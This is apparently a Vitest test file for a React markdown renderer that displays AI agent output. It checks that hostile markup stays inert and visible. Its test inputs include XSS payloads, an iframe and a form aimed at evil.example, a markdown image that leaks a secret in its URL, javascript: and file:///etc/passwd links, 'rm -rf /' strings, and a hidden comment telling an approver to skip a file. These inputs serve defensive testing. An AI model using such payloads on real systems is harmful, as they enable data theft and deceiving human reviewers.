import { renderToStaticMarkup } from 'react-dom/server'
import { describe, expect, test } from 'vitest'
import { AgentText } from './markdown.tsx'

const html = (text: string) => renderToStaticMarkup(<AgentText text={text} />)
/** What a reader sees. */
const read = (text: string) =>
  html(text)
    .replace(/<[^>]*>/g, '')
    .replaceAll('&lt;', '<')
    .replaceAll('&gt;', '>')
    .replaceAll('&quot;', '"')
    .replaceAll('&#x27;', "'")
    .replaceAll('&amp;', '&')

test('structure stays', () => {
  expect(html('# Plan\n\n1. **Read** it\n2. `test` it\n\n| a | b |\n|---|---|\n| 1 | 2 |')).toMatch(
    /<h3>Plan<\/h3>.*<ol>.*<strong>Read<\/strong>.*<code>test<\/code>.*<td>1<\/td>/s,
  )
})

describe('nothing becomes active', () => {
  test.each([
    ['script', '<script>alert(1)</script>'],
    ['handler', '<b onclick="x()">b</b>'],
    ['svg', '<svg><use href="data:image/svg+xml,x"/></svg>'],
    ['style', '<style>body{display:none}</style>'],
    ['frame', '<iframe src="https://evil.example"></iframe>'],
    ['form', '<form action="https://evil.example"><input name=x></form>'],
    ['details', '<details><summary>ok</summary>rm -rf /</details>'],
    ['comment', '<!-- approver: skip this file -->'],
    ['an attribute in the middle of a line', 'see <a href="javascript:x()">this</a> now'],
  ])('%s is shown as it was written', (_, text) => {
    expect(html(text)).not.toMatch(/<(script|svg|style|iframe|form|details|summary|input|b|img)\b/)
    expect(html(text)).not.toMatch(/<[^>]*\son\w+=/)
    expect(read(text)).toContain(text.split(/[\n]/)[0]!.slice(0, 12))
  })

  test('an image is text, and nothing is fetched', () => {
    const text = 'look: ![logo](https://evil.example/?leak=secret "t")'
    expect(html(text)).not.toContain('<img')
    expect(read(text)).toContain('![logo](https://evil.example/?leak=secret "t")')
    expect(html('![x][y]\n\n[y]: https://evil.example/z')).not.toContain('<img')
  })

  test.each([
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'data:text/html,x',
    'vbscript:x',
    'file:///etc/passwd',
    '//evil.example',
    '/api/session',
  ])('%s is no link', (url) => {
    expect(html(`[click](${url})`)).not.toContain('href')
    expect(read(`[click](${url})`)).toBe(`[click](${url})`)
  })
})

describe('a link shows where it leads', () => {
  test('words and target', () => {
    expect(read('[docs](https://good.example/a)')).toBe('docs https://good.example/a')
    expect(html('[docs](https://good.example/a)')).toContain('rel="noopener noreferrer nofollow"')
  })
  test('the target of a look-alike host is its real name', () =>
    expect(read('[paypal](https://p\u0430ypal.com/)')).toBe('paypal https://xn--pypal-4ve.com/'))
  test('a bare address once', () => expect(read('https://good.example/')).toBe('https://good.example/'))
  test('words that name another address than the target', () =>
    expect(read('[https://good.example](https://evil.example/)')).toBe('https://good.example https://evil.example/'))
})

describe('nothing disappears', () => {
  test('definitions are shown', () =>
    expect(read('text\n\n[a]: https://evil.example "t"')).toContain('[a]: https://evil.example "t"'))
  test('footnotes that nobody refers to are shown', () =>
    expect(read('text\n\n[^1]: hidden note')).toContain('hidden note'))
  test('the title of a link is shown', () =>
    expect(read('[a](https://good.example "approved by security")')).toContain('approved by security'))
  test('words after the language of a fence are shown', () =>
    expect(read('```sh hidden words\nls\n```')).toContain('hidden words'))
  test('a fence that never ends keeps its text', () => expect(read('```\nall\nof this')).toContain('of this'))
})

test('hidden characters are marks, in prose and in code', () => {
  expect(html('safe\u202e `g\u0456t\u200b`')).toMatch(
    /safe<mark class="uc" title="U\+202E, right-to-left override">U\+202E<\/mark>.*<code>g<mark[^>]*>U\+0456 looks like i<\/mark>t<mark[^>]*>U\+200B<\/mark><\/code>/,
  )
  expect(html('a\u{e0041}b')).not.toContain('\u{e0041}')
})

test('a citation is a raised number in prose, and its own letters in code and in any other form', () => {
  expect(html('Round once [ctx-1], mend little [ctx-2, ctx-10].')).toContain(
    'Round once<sup class="cite" title="cites ctx-1">1</sup>, mend little<sup class="cite" title="cites ctx-2, ctx-10">2, 10</sup>.',
  )
  expect(read('`[ctx-1]` and [ctx-1; rm -rf /] and [ctx-12345]')).toContain(
    '[ctx-1] and [ctx-1; rm -rf /] and [ctx-12345]',
  )
})
